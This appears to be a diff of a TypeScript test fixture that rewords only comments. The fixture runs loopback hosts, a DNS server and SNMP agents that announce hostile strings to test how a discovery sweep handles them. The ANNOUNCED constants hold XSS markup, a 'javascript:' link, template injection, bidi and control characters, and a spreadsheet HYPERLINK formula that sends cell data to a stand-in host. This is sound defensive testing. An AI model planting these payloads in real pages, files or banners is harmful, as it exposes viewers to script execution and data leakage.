@@ -1,5 +1,5 @@
-// Machines on loopback that announce what wants to break out, by every protocol of which a sweep keeps a word, in the
-// certificate of their HTTPS and by SNMP, and a name server that has such names for addresses. No assertions.
+// Loopback machines that announce hostile texts by every protocol whose text a sweep stores, in their HTTPS certificate
+// and by SNMP, and a name server with such names. No assertions.
 
 import { parseIp } from "../../../src/base/ip.ts";
 import { reverseName } from "../../../src/discovery/sweep/reverse-name.ts";
@@ -8,26 +8,26 @@ import { startAgents } from "../snmp/agents.ts";
 import { type SnmpView, viewOf } from "../snmp/view.ts";
 import { makeNamedPair } from "../tls/certificates.ts";
 
-/** Whatever of it runs sets `broken` of the window. */
+/** Executed parts set `broken` of the window. */
 export const ANNOUNCED = {
   markup: `"><img src=x onerror=broken=1><script>broken=2</script>`,
   link: "javascript:broken=3",
   formula: `=HYPERLINK("http://elsewhere.example/?"&A1,"click")`,
   template: "{{7*7}}${broken=4}&lt;img src=x onerror=broken=5&gt;",
-  /** The end of an isolate that it is not in, overrides and isolates that do not end, marks, and letters that are written from right to left. */
+  /** A closing isolate without an open one, unclosed overrides and isolates, marks, and right-to-left letters. */
   direction: "\u2069\u202e\u2067\u200fשרת-הדפסה خادم gnp.exe\u061c",
-  /** A sequence for terminals, a tab, the ends of a line that JavaScript knows, the end of a C string. */
+  /** A terminal escape sequence, a tab, JavaScript's line terminators, the terminator of a C string. */
   control: "a\x1b[31mb\x07\tc\u0085d\u2028e\x7ff\x00g",
   long: "W".repeat(12_000),
-  /** A byte that no UTF-8 has, the first byte of two without the second, a surrogate. */
+  /** A byte invalid in UTF-8, a lead byte without its continuation, a surrogate. */
   invalid: Buffer.from("611cff62c32863eda08064", "hex"),
-  /** Marks that pile up above and below a letter. */
+  /** Combining marks stacked above and below a letter. */
   piled: `Z${"\u0335\u0321\u0301\u0489\u0316".repeat(16)}algo`,
-  /** Letters and signs that show nothing. */
+  /** Letters and symbols without a visible glyph. */
   blank: "\u3164\u2800\u115f\uffa0",
 } as const;
 
-/** Begins every name in a certificate, and nothing else. */
+/** Prefix of every name in a certificate, used nowhere else. */
 export const CERTIFIED = "certificateholder";
 
 export type Announced = keyof typeof ANNOUNCED;
@@ -37,10 +37,10 @@ const WORDS = Object.keys(ANNOUNCED) as Announced[];
 /** 127.17.67.1 and on, in the order of ANNOUNCED. */
 export const MACHINES = WORDS.map((_, place) => `127.17.67.${place + 1}`);
 
-/** Answers for names, and by the same protocol for what it calls itself. */
+/** Answers name queries, and version queries by the same protocol. */
 export const NAME_SERVER = "127.17.67.53";
 
-/** What the name server says of addresses where nothing listens: the labels of a name, as bytes, of each of several. */
+/** PTR names of addresses without listeners: labels as bytes, several names each. */
 const NAMES: Readonly<Record<string, readonly (readonly (string | Uint8Array)[])[]>> = {
   "127.17.67.101": [[ANNOUNCED.markup]],
   "127.17.67.102": [[ANNOUNCED.link]],
@@ -56,11 +56,11 @@ const NAMES: Readonly<Record<string, readonly (readonly (string | Uint8Array)[])
   "127.17.67.109": [["xn--4dbrk0ce"]],
 };
 
-/** Where it has names for, whoever listens. */
+/** Addresses with names, whether or not a service listens. */
 export const NAMED = Object.keys(NAMES);
 
 interface Greeting {
-  /** What is sent to whoever connects, or asks where `isAsked`. @param word on one line */
+  /** Greeting on connection, or on a request if `isAsked`. @param word on one line */
   readonly said: (word: Uint8Array) => Uint8Array;
   readonly isAsked?: boolean;
   readonly isTls?: boolean;
@@ -69,7 +69,7 @@ interface Greeting {
 const bytesOf = (...parts: readonly (string | Uint8Array)[]) =>
   Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part) : part)));
 
-/** In a page markup is written so that it comes out of the title as it was. */
+/** In HTML, markup is escaped so that the title contains it verbatim. */
 const inHtml = (word: Uint8Array) =>
   Buffer.from(Buffer.from(word).toString("latin1").replaceAll("<", "&lt;"), "latin1");
 
@@ -79,10 +79,10 @@ function webPage(word: Uint8Array): Uint8Array {
   return bytesOf("HTTP/1.1 200 OK\r\nServer: ", word, "\r\n", head, body);
 }
 
-/** By port: those of the protocol, or where a service that speaks first is known by what it says. */
+/** By port: that of the protocol, or one where a service that speaks first is identified by its greeting. */
 const GREETINGS: Readonly<Record<number, Greeting>> = {
   2121: { said: (word) => bytesOf("220 ", word, " FTP server\r\n") },
-  // No space stands in it: the rest would be a comment.
+  // Without a space: the rest would be a comment.
   2222: {
     said: (word) =>
       bytesOf(
@@ -107,12 +107,12 @@ const GREETINGS: Readonly<Record<number, Greeting>> = {
   40143: { said: (word) => bytesOf("* OK ", word, " ready\r\n") },
 };
 
-/** What a sweep has to ask to hear all of it; where nobody listens, too, or the machine is taken for a proxy. */
+/** Ports a sweep must probe to read all greetings; includes closed ones, or the machine would be taken for a proxy. */
 export const HOSTILE_PORTS = [9, 53, ...Object.keys(GREETINGS).map(Number)];
 
-/** A method of connection 0, class and method 10, version 0.9, and the properties product and version. */
+/** Method frame of channel 0, class and method 10, version 0.9, and the properties product and version. */
 function amqpStart(word: Uint8Array): Uint8Array {
-  // Of a text one byte of its length is read.
+  // The length of a short text is one byte.
   const product = word.subarray(0, 200);
   const method = bytesOf(
     "\0\x0a\0\x0a\0\x09\0\0\0\x32\x07productS\0\0\0",
@@ -137,7 +137,7 @@ export class HostileMachines {
     this.closings = listening(this);
   }
 
-  /** @param hasNames whether the name server is started as well, which takes root */
+  /** @param hasNames whether to start the name server as well, which requires root */
   static async start(hasNames: boolean): Promise<HostileMachines> {
     const agents = await startAgents(
       MACHINES.map((address, place) => ({
@@ -158,12 +158,12 @@ export class HostileMachines {
     ]);
   }
 
-  /** Which word a machine announces. */
+  /** The text that a machine announces. */
   announcedAt(address: string): Announced {
     return WORDS[(MACHINES.indexOf(address) + this.turn) % WORDS.length] as Announced;
   }
 
-  /** Each announces from now on what another did. */
+  /** Exchanges the texts between the machines. */
   swap(): void {
     this.turn += 1;
     for (const [place, agent] of this.agents.entries())
@@ -206,7 +206,7 @@ function listen(
   return () => listener.stop(true);
 }
 
-/** A device with a port, whose texts are all the word. */
+/** A device with a port; all its texts are the word. */
 function announcedBySnmp(place: number, word: Uint8Array): SnmpView {
   const text = word.subarray(0, SNMP_TEXT_MAX_BYTES);
   const mac = Uint8Array.of(0x00, 0x1b, 0x21, 0x67, 0x67, place);
@@ -239,7 +239,7 @@ function announcedBySnmp(place: number, word: Uint8Array): SnmpView {
   });
 }
 
-/** So that several go into a datagram. */
+/** Allows several in a datagram. */
 const SNMP_TEXT_MAX_BYTES = 600;
 
 /** Answers PTR over UDP and `version.bind` over TCP (RFC 1035 section 4). */
@@ -276,7 +276,7 @@ async function nameServer(): Promise<readonly (() => void)[]> {
 
 const HEADER_BYTES = 12;
 
-/** @returns the name that is asked for, in lower case, and where its question ends */
+/** @returns the queried name in lower case, and the end of its question */
 function questionIn(query: Uint8Array): { readonly name: string; readonly end: number } {
   const labels: string[] = [];
   let at = HEADER_BYTES;
@@ -290,12 +290,12 @@ function questionIn(query: Uint8Array): { readonly name: string; readonly end: n
 /** @param asked header and question of the query */
 function reply(asked: Uint8Array, records: readonly Uint8Array[]): Uint8Array {
   const message = bytesOf(asked, ...records);
-  // An answer with authority; no such name where there is no record.
+  // An authoritative answer; NXDOMAIN without a record.
   message.set([0x85, records.length === 0 ? 0x83 : 0x80, 0, 1, 0, records.length, 0, 0, 0, 0], 2);
   return message;
 }
 
-/** Of the name that was asked for, which is the first of the message. */
+/** For the queried name, which is the first of the message. */
 function record(type: number, family: number, data: Uint8Array): Uint8Array {
   return bytesOf(Uint8Array.of(0xc0, HEADER_BYTES, 0, type, 0, family, 0, 0, 0, 0, 0, data.length), data);
 }
